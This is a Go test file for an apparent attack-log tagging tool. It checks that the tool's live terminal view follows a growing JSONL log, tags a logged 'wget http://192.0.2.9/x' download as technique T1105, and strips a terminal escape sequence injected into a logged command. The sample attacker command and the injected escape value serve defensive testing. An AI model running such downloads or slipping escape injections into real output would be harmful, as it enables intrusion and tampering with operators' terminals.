package main

import (
	"context"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/creack/pty"
)

// A growing log is shown on a terminal as it grows; the terminal comes back, the
// table is behind it. With -o, or --live=false, lines are printed as elsewhere.
func TestLiveFollow(t *testing.T) {
	rules := ruleDir(t)
	for _, tt := range []struct {
		args []string
		live bool
	}{{nil, true}, {[]string{"--live=false"}, false}, {[]string{"-o", "jsonl"}, false}} {
		log := filepath.Join(t.TempDir(), "events.jsonl")
		write := func(text string) {
			f, err := os.OpenFile(log, os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o600)
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			if _, err := f.WriteString(text); err != nil {
				t.Fatal(err)
			}
		}
		event := func(id, command string) string {
			return `{"source_kind":"command","source_id":"` + id + `","attacker_ip":"192.0.2.7","ts":"2026-09-14T10:00:00Z","payload":{"command_text":"` + command + `"}}` + "\n"
		}
		write(event("c1", "wget http://192.0.2.9/x"))
		keys, tty, err := pty.Open()
		if err != nil {
			t.Skipf("no pseudo terminal: %v", err)
		}
		if err := pty.Setsize(keys, &pty.Winsize{Rows: 24, Cols: 80}); err != nil {
			t.Fatal(err)
		}
		shown := &screen{}
		read := make(chan error)
		go func() { _, err := io.Copy(shown, keys); read <- err }()
		ctx, cancel := context.WithCancel(context.Background())
		s := testStreams(io.Discard, io.Discard, map[string]string{"LANG": "C.UTF-8"})
		s.out = stream{Writer: tty, tty: true}
		done := make(chan error)
		go func() {
			done <- execute(ctx, s, append([]string{"--db", "none", "--color", "never", "--rules", rules, "tag", "--follow", log}, tt.args...))
		}()
		shown.wait(t, "192.0.2.9/x", 1)
		write(event("c2", `wget http://192.0.2.9/\u001b[2Jsecond`))
		shown.wait(t, "second", 1)
		cancel()
		<-done
		tty.Close()
		<-read
		keys.Close()
		text := shown.String()
		_, live, entered := strings.Cut(text, "\x1b[?1049h")
		drawn, after, left := strings.Cut(live, "\x1b[?1049l")
		if entered != tt.live || left != tt.live {
			t.Errorf("%v: the screen was opened %v and closed %v, want %v", tt.args, entered, left, tt.live)
		}
		switch {
		case tt.live && (!strings.Contains(drawn, "T1105") || !strings.Contains(drawn, "LAST HITS") || strings.Contains(drawn, "/\x1b[2J")):
			t.Errorf("the screen showed %q", drawn)
		case tt.live && !strings.Contains(after, "1 technique in 2 tags"):
			t.Errorf("behind the screen stands %q, want the table", after)
		case !tt.live && strings.Count(text, `"rule_id":"R0012"`) != 2:
			t.Errorf("%v: printed %q, want a line a tag", tt.args, text)
		}
	}
}

// ruleDir returns a directory with R0012 alone.
func ruleDir(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	data, err := os.ReadFile("../../rules/ttp/R0012.yaml")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "R0012.yaml"), data, 0o600); err != nil {
		t.Fatal(err)
	}
	return dir
}
